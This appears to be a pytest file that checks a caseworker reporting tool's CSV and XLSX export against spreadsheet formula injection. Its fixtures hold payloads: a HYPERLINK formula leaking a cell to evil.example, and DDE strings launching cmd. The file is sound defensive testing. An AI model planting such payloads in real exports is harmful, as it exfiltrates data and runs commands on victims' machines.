"""A name typed as a formula stays text in the manager's CSV and XLSX (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from trust_helpers import log

from caseworker.cli import main
from caseworker.reports.writers import neutralise
from db.store import Store

SITE = '=HYPERLINK("http://evil.example/?"&B3, "Click for details")'
AREA = "+cmd|' /C calc'!A0"
THEME = "@SUM(1+1)*cmd|' /C calc'!A0"
REPORT = ["report", "--from", "2026-01-01", "--to", "2026-03-31"]


@pytest.fixture
def hostile_store(store: Store, cli_db: str) -> Store:
    log(store, site=SITE, service_areas=(AREA,), themes=(THEME, "-2+3"))
    return store


def test_neutralise_follows_owasp() -> None:
    assert [neutralise(t) for t in ("=1", "+1", "-1", "@a", "\tx", "\rx", "Depot", "")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
        "Depot",
        "",
    ]


def test_csv_cells_never_start_a_formula(
    hostile_store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "r.csv"
    assert main(["--db", hostile_store.location, *REPORT, "--out", str(out)]) == 0
    cells = [
        c for row in csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline="")) for c in row
    ]
    assert "'" + SITE in cells and "'" + AREA in cells and "'" + THEME in cells
    assert "'-2+3" in cells
    assert [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))] == []
    assert [c for c in cells if c.startswith("-") and not c.lstrip("-").isdigit()] == []


def test_xlsx_text_is_stored_as_text_never_a_formula(
    hostile_store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "r.xlsx"
    assert main(["--db", hostile_store.location, *REPORT, "--out", str(out)]) == 0
    book = load_workbook(out)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {"'" + SITE, "'" + AREA, "'" + THEME} <= texts
    # Figures stay numbers.
    assert any(c.data_type == "n" and isinstance(c.value, int) for c in cells)
